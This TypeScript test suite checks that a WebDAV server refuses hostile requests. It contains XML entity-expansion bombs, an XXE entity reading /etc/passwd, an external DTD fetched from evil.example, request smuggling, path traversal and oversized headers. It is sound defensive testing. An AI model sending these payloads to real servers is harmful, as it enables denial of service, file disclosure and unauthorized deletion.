import { describe, expect, test } from "@jest/globals";
import { SMALL, useTarget } from "./hostile-fixture.ts";
import { fetchRaw, type Headers, RawClient, requestText } from "./raw-client.ts";

const target = useTarget();

const READS_XML = ["PROPFIND", "PROPPATCH", "LOCK"];
const bomb = (inner: string) => `<!DOCTYPE x [${inner}]><propfind xmlns="DAV:"><prop><x>&e;</x></prop></propfind>`;
const propfind = (body: string, headers: Headers = {}) =>
  target.status("PROPFIND", "/dav/movies", { Depth: "1", ...headers }, body);

describe("XML that is no request is 400:", () => {
  test.each([
    ["billion laughs", bomb('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">')],
    ["quadratic entities", bomb(`<!ENTITY e "${"x".repeat(50_000)}">`)],
    ["XXE", bomb('<!ENTITY e SYSTEM "file:///etc/passwd">')],
    ["a parameter entity", bomb('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;')],
    ["an entity that nobody declared", '<propfind xmlns="DAV:"><prop><x>&e;</x></prop></propfind>'],
    ["malformed XML", '<propfind xmlns="DAV:"><prop>'],
    ["8,000 levels", "<a>".repeat(8_000)],
    ["an empty prefix binding", '<D:propfind xmlns:D="DAV:"><D:prop><b:c xmlns:b=""/></D:prop></D:propfind>'],
    ["6,000 attributes", `<propfind xmlns="DAV:"${Array.from({ length: 6_000 }, (_, n) => ` a${n}=""`).join("")}/>`],
    [
      "5,000 properties",
      `<propfind xmlns="DAV:"><prop>${Array.from({ length: 5_000 }, (_, n) => `<p${n}/>`).join("")}</prop></propfind>`,
    ],
    ["two roots", '<propfind xmlns="DAV:"><allprop/></propfind><x/>'],
    ["UTF-16", "\ufeff<\0a\0/\0>\0"],
    ["a NUL", '<propfind xmlns="DAV:">\0<allprop/></propfind>'],
    ["no XML", "hello"],
  ])("%s", async (_, body) => {
    for (const method of READS_XML) {
      const status = await target.status(method, "/dav/rw/old.txt", { Depth: "0" }, body);
      expect({ method, status }).toEqual({ method, status: 400 });
    }
  });
});

describe("a body that is too large is 413:", () => {
  const large = `<propfind xmlns="DAV:">${"<a/>".repeat(20_000)}</propfind>`;

  test("80 KB, with a length and in chunks", async () => {
    const chunked = `${large.length.toString(16)}\r\n${large}\r\n0\r\n\r\n`;
    for (const method of READS_XML) {
      expect(await target.status(method, "/dav/rw/old.txt", { Depth: "0" }, large)).toBe(413);
      const headers = { Depth: "0", "Transfer-Encoding": "chunked" };
      expect(await target.raw(requestText(method, "/dav/rw/old.txt", headers) + chunked)).toBe(413);
    }
  });

  test.each(["PROPFIND", "GET", "PUT", "OPTIONS", "PROPPATCH", "LOCK", "MKCOL", "MOVE", "DELETE"])(
    "10 TB announced to %s and none sent",
    async (method) => {
      const headers = { "Content-Length": "10000000000000", Depth: "0", Destination: "/dav/rw/elsewhere" };
      expect(await target.status(method, "/dav/rw/old.txt", headers)).toBe(413);
    },
  );

  test.each([["announced"], ["in chunks"]])("100 MB %s, of which hardly any is taken", async (how) => {
    const MIB = 1024 * 1024;
    const framing = how === "announced" ? { "Content-Length": `${100 * MIB}` } : { "Transfer-Encoding": "chunked" };
    const piece = Buffer.from("<a/>".repeat(MIB / 4));
    const chunk = Buffer.concat([Buffer.from(`${MIB.toString(16)}\r\n`), piece, Buffer.from("\r\n")]);
    await using client = await RawClient.open(target.server.port);
    client.send(requestText("PROPFIND", "/dav/movies", { Depth: "1", ...framing }));
    let taken = 0;
    for (; taken < 100 && !client.socket.destroyed; taken += 1) {
      const isSent = new Promise<boolean>((resolve) =>
        client.socket.write(how === "announced" ? piece : chunk, (error) => resolve(!error)),
      );
      if (!(await Promise.race([isSent, client.closed.then(() => false)]))) break;
    }
    // The answer lies before the end of the connection, however that ended.
    expect((await client.response()).status).toBe(413);
    // What the server reads after its refusal, and what fits into the buffers of two sockets.
    expect(taken).toBeLessThan(30);
  });
});

describe("a body", () => {
  test("in a Content-Encoding is 415 where it matters, and ignored where it does not", async () => {
    expect(await propfind("not gzip", { "Content-Encoding": "gzip" })).toBe(415);
    expect(await target.status("PUT", "/dav/rw/s", { "Content-Encoding": "gzip" }, "not gzip")).toBe(415);
    expect(await target.status("OPTIONS", "/dav/", { "Content-Encoding": "gzip" }, "not gzip")).toBe(200);
    expect(await target.status("GET", SMALL, { Range: "bytes=0-1", "Content-Encoding": "gzip" }, "not gzip")).toBe(206);
  });

  test("that stops coming is 408, and the connection closed", async () => {
    for (const method of [...READS_XML, "PUT"]) {
      await using client = await RawClient.open(target.server.port);
      client.send(requestText(method, "/dav/rw/old.txt", { Depth: "0", "Content-Length": "100" }, "<propfind"));
      expect((await client.response()).status).toBe(408);
      await client.closed;
    }
  });

  test("that nobody wanted does not become the next request", async () => {
    const inner = requestText("DELETE", "/dav/rw/old.txt");
    for (const method of ["GET", "HEAD", "OPTIONS", "POST", "DELETE", "SEARCH"]) {
      await using client = await RawClient.open(target.server.port);
      client.send(requestText(method, "/dav/rw/nothing", {}, inner) + requestText("HEAD", SMALL));
      await client.response(method);
      expect((await client.response("HEAD")).headers["content-length"]).toBe("1000003");
    }
    expect(target.server.tree.find(["rw", "old.txt"])).toBeDefined();
  });
});

describe("headers that ask for too much", () => {
  test("900 ranges do not make a file larger", async () => {
    const { status, body } = await fetchRaw(target.server.port, "GET", SMALL, {
      Range: `bytes=${"0-,".repeat(900)}0-`,
    });
    expect([status, body.length]).toEqual([200, 1_000_003]);
  });

  test.each([
    `bytes=${"9".repeat(5_000)}-`,
    `bytes=0-${"9".repeat(5_000)}`,
    `bytes=-${"9".repeat(5_000)}`,
    `bytes=${"-,".repeat(5_000)}`,
    `bytes=${"1-0,".repeat(3_000)}`,
    `bytes=0${" ".repeat(10_000)}-`,
    `${"bytes=".repeat(2_000)}0-`,
  ])("a Range like %.20s... is answered", async (range) => {
    expect([200, 206, 416]).toContain(await target.status("HEAD", SMALL, { Range: range }));
    const status = await target.status("GET", SMALL, { Range: range });
    expect([200, 206, 416]).toContain(status);
  });

  test.each([
    ["a token of nobody", "(<opaquelocktoken:x>)"],
    ["a thousand lists", "(<a:b>)".repeat(1_000)],
    ["a list that does not end", `(${"<a:b> ".repeat(2_000)}`],
    ["nested lists", "(".repeat(5_000)],
    ["tags without ends", "[".repeat(5_000)],
    ["another server's resource", "<http://evil.example/x> (<a:b>)"],
    ["a resource that is none", "</%zz> (<a:b>)"],
    ["a way out of the tree", "</dav/../x> (<a:b>)"],
  ])("an If header with %s is refused or fails, for every method", async (_, header) => {
    for (const method of ["PROPFIND", "PUT", "DELETE", "MOVE", "LOCK", "UNLOCK", "PROPPATCH", "MKCOL", "GET"]) {
      const status = await target.status(method, "/dav/rw/old.txt", {
        If: header,
        Destination: "/dav/rw/x",
        Depth: "0",
      });
      expect([400, 412]).toContain(status);
    }
    expect(target.server.tree.find(["rw", "old.txt"])?.etag).toBe("e-10");
  });

  test.each([`Second-${"9".repeat(5_000)}`, "Infinite, ".repeat(2_000), "Second--1", "\xff"])(
    "a Timeout like %.12s... gives a lock that ends",
    async (timeout) => {
      const body = '<lockinfo xmlns="DAV:"><lockscope><exclusive/></lockscope><locktype><write/></locktype></lockinfo>';
      const headers = { Timeout: timeout, Depth: "0" };
      const {
        status,
        headers: answered,
        body: xml,
      } = await fetchRaw(target.server.port, "LOCK", "/dav/rw/old.txt", headers, body);
      expect(status).toBe(200);
      expect(xml.toString()).toMatch(/<D:timeout>Second-\d{1,10}<\/D:timeout>/);
      const token = answered["lock-token"] as string;
      expect(await target.status("UNLOCK", "/dav/rw/old.txt", { "Lock-Token": token })).toBe(204);
    },
  );
});
